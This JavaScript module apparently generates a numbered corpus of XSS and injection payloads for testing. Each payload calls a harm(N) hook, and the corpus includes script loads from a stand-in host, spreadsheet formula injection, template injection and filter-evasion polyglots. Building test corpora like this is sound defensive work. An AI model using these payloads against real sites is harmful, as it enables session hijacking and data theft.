// What somebody hostile would type, answer or send: each calls harm(N) where it runs, and each is short enough for a name.

const HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onpointerenter", "onanimationstart", "ontoggle", "onbegin", "oncontentvisibilityautostatechange"];
const TAGS = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe src=x", "object data=x", "marquee", "select autofocus", "x style=animation-name:x tabindex=1"];
const URLS = ["javascript:harm(N)", "JaVaScRiPt:harm(N)", "java&#9;script:harm(N)", "&#106;avascript:harm(N)", " javascript:harm(N)", "data:text/html,<script>parent.harm(N)</script>", "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFybSgpPC9zY3JpcHQ+", "vbscript:harm(N)", "//elsewhere.example/N", "blob:harm(N)"];
const CARRIERS = ["<a href=\"U\" autofocus>x</a>", "<iframe src=\"U\"></iframe>", "<form action=\"U\"><button autofocus>x</button></form>", "<object data=\"U\"></object>", "<embed src=\"U\">", "<base href=\"U\">", "<meta http-equiv=refresh content=\"0;url=U\">", "<svg><a xlink:href=\"U\"><text y=9>x</text></a></svg>", "<math href=\"U\">x</math>", "[x](U)", "![x](U)", "U"];
const BREAKS = ["\"", "'", "`", "</title>", "</textarea>", "</style>", "</script>", "-->", "]]>", "\"}", "'}}", "</option></select>", "</td></table>", "\\\"", "&quot;"];
const SCRIPTS = [
  "<script>harm(N)</script>", "<SCRIPT>harm(N)</SCRIPT>", "<script src=//elsewhere.example/N></script>", "<script type=module>harm(N)</script>", "<scr<script>ipt>harm(N)</scr</script>ipt>",
  "<svg><script>harm(N)</script></svg>", "<svg/onload=harm(N)>", "<svg><animate onbegin=harm(N) attributeName=x dur=1s>", "<math><mtext><table><mglyph><style><img src=x onerror=harm(N)>",
  "<template><script>harm(N)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=harm(N)>\">", "<iframe srcdoc=\"<script>parent.harm(N)</script>\"></iframe>",
  "<link rel=stylesheet href=//elsewhere.example/N.css>", "<style>@import '//elsewhere.example/N';</style>", "<div style=background:url(javascript:harm(N))>", "<portal src=//elsewhere.example/N>",
  "<x contenteditable onblur=harm(N)>", "<isindex type=image src=1 onerror=harm(N)>", "<dialog open onclose=harm(N)>", "<input type=image src=x onerror=harm(N)>", "<button popovertarget=x>p</button><xss onbeforetoggle=harm(N) popover id=x>",
];
const EXPRESSIONS = [
  "{@html harm(N)}", "{harm(N)}", "{{harm(N)}}", "${harm(N)}", "#{harm(N)}", "<%= harm(N) %>", "{{constructor.constructor('harm(N)')()}}", "{{$on.constructor('harm(N)')()}}", "[[harm(N)]]", "{% harm(N) %}",
  "__proto__", "constructor", "%3Cscript%3Eharm(N)%3C/script%3E", "&lt;script&gt;harm(N)&lt;/script&gt;", "\\u003cscript\\u003eharm(N)\\u003c/script\\u003e", "＜script＞harm(N)＜/script＞", "<\u2028script>harm(N)</script>",
  "\u202Egnp.tpircs<script>harm(N)</script>", "﻿<script>harm(N)</script>", "=cmd|'/c calc'!A1", "@SUM(1+1)*N", "+harm(N)", "-harm(N)", "```html\n<script>harm(N)</script>\n```".replaceAll("\n", " "), "<https://elsewhere.example/N>", "<!--<script>harm(N)//-->",
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=harm(N) )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=harm(N)//>",
];

/** Every payload, each with its number. */
export const PAYLOADS = [
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=harm(N)>`)),
  ...CARRIERS.flatMap((carrier) => URLS.map((url) => carrier.replaceAll("U", () => url))),
  ...BREAKS.flatMap((end) => [`${end}><img src=x onerror=harm(N)>`, `${end} onfocus=harm(N) autofocus x=${end}`, `${end};harm(N);//`]),
  ...SCRIPTS,
  ...EXPRESSIONS,
].map((payload, number) => payload.replaceAll("N", String(number)).trim());
